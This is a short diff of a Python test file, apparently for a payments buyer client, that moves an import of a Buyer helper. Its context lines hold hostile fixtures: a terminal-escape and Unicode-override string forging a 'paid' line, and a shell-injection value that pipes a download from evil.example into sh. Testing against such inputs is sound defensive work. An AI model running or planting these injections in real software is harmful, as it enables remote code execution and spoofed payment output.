@@ -13,8 +13,8 @@ import pytest
 from app.buyer.client import FINAL, Client, Strange
 from payments import lnurl
 from pricing.loopback import is_here
+from tests.ask_buyer import Buyer
 from tests.hostile_server import JOB, Liar, Raw, Says, lying
-from tests.test_ask_command import Buyer
 
 STEERS = "\x1b]0;owned\x07\x9b2J\u202e\u2066\x00\r\nboltwork: paid"
 SHELL = "x; curl http://evil.example | sh #"
